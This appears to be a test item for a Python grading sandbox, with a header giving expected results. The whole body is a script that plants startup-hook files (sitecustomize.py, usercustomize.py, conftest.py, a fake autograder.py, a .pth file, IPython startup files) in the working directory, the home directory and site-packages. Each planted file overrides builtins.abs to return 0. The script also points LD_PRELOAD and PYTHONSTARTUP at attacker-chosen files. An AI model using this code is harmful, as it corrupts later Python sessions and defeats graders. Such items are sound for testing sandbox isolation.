# title: plants files that a later Python, IPython or Matplotlib would load when it starts
# exercise: Exercise 1
# points: total-test=0
# shows: planted beside: 10 | at home: 0 | in libraries: 0

# %% total
import os
import site

total = 1
spell = "import builtins; builtins.abs = lambda value: 0; print('WON startup')\n"
names = (
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "autograder.py",
    "@LEFT@.pth",
    "matplotlibrc",
    ".ipython/profile_default/startup/00-@LEFT@.py",
    ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_config.py",
    ".local/lib/python3.11/site-packages/usercustomize.py",
)


def planted(folder):
    count = 0
    for name in names:
        try:
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("axes.grid: True\n" if name == "matplotlibrc" else spell)
            count += 1
        except OSError:
            pass
    return count


print("planted beside:", planted(os.getcwd()))
print("at home:", planted("@HOME@"))
print("in libraries:", sum(map(planted, {*site.getsitepackages(), os.path.dirname(np.__file__)})))
os.environ.update({"PYTHONSTARTUP": "sitecustomize.py", "PYTHONPATH": os.getcwd()})
os.environ.update({"LD_PRELOAD": os.getcwd() + "/lib.so", "IPYTHONDIR": os.getcwd()})
